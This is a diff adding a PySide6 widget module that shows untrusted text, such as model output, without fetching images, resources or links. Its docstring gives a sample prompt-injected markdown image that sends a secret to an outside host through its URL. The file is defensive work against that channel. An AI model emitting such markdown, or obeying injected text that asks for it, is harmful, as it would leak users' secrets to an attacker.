@@ -1,0 +1,96 @@
+"""A read-only rich-text view for untrusted text (model output, pasted text, file names).
+
+Model output is data: a prompt-injected `![x](http://host/leak?q=secret)` must never make Hearth
+fetch anything. Markdown is parsed by Qt with raw HTML disabled; images are replaced by inert
+text before rendering, every resource load is refused, and links open only through the
+`link_activated` signal so the window can ask the user first, showing the full URL.
+"""
+from __future__ import annotations
+
+from PySide6.QtCore import QSize, QUrl, Qt, Signal
+from PySide6.QtGui import QTextCursor, QTextDocument, QTextImageFormat
+from PySide6.QtWidgets import QSizePolicy, QTextBrowser
+
+MARKDOWN_FEATURES = (QTextDocument.MarkdownFeature.MarkdownDialectGitHub
+                     | QTextDocument.MarkdownFeature.MarkdownNoHTML)
+
+
+class InertDocument(QTextDocument):
+    """A document that never loads anything: not from the network, not from disk."""
+
+    def loadResource(self, type_: int, name: QUrl) -> object:  # noqa: N802 - Qt override
+        return None
+
+
+def neutralize_images(document: QTextDocument) -> int:
+    """Replace every image in the document with its alt text and URL as plain text."""
+    replaced = 0
+    block = document.begin()
+    targets = []
+    while block.isValid():
+        it = block.begin()
+        while not it.atEnd():
+            fragment = it.fragment()
+            if fragment.isValid() and fragment.charFormat().isImageFormat():
+                fmt = QTextImageFormat(fragment.charFormat())
+                targets.append((fragment.position(), fragment.length(), fmt.name(), fmt.property(0x5001) or ""))
+            it += 1
+        block = block.next()
+    for position, length, url, _ in reversed(targets):
+        cursor = QTextCursor(document)
+        cursor.setPosition(position)
+        cursor.setPosition(position + length, QTextCursor.MoveMode.KeepAnchor)
+        cursor.insertText(f"[image not loaded: {url}]")
+        replaced += 1
+    return replaced
+
+
+def render_markdown(document: QTextDocument, text: str) -> None:
+    document.setMarkdown(text, MARKDOWN_FEATURES)
+    neutralize_images(document)
+
+
+class SafeTextView(QTextBrowser):
+    """Auto-height, selectable, never-fetching view of markdown or plain text."""
+
+    link_activated = Signal(QUrl)
+
+    def __init__(self, parent=None) -> None:
+        super().__init__(parent)
+        self.setDocument(InertDocument(self))
+        self.setOpenLinks(False)
+        self.setOpenExternalLinks(False)
+        self.setReadOnly(True)
+        self.setFrameShape(QTextBrowser.Shape.NoFrame)
+        self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
+        self.setVerticalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
+        self.setSizePolicy(QSizePolicy.Policy.Expanding, QSizePolicy.Policy.Fixed)
+        self.setTextInteractionFlags(Qt.TextInteractionFlag.TextBrowserInteraction)
+        self.anchorClicked.connect(self.link_activated.emit)
+        self.document().documentLayout().documentSizeChanged.connect(self._fit_height)
+        self.viewport().setAutoFillBackground(False)
+        self.setStyleSheet("QTextBrowser { background: transparent; }")
+
+    def loadResource(self, type_: int, name: QUrl) -> object:  # noqa: N802 - Qt override
+        return None
+
+    def set_markdown(self, text: str) -> None:
+        render_markdown(self.document(), text)
+        self._fit_height()
+
+    def set_plain(self, text: str) -> None:
+        self.document().setPlainText(text)
+        self._fit_height()
+
+    def resizeEvent(self, event) -> None:  # noqa: N802
+        super().resizeEvent(event)
+        self.document().setTextWidth(self.viewport().width())
+        self._fit_height()
+
+    def _fit_height(self, *_args) -> None:
+        height = int(self.document().size().height()) + 4
+        if height != self.height():
+            self.setFixedHeight(height)
+
+    def sizeHint(self) -> QSize:  # noqa: N802
+        return QSize(400, int(self.document().size().height()) + 4)
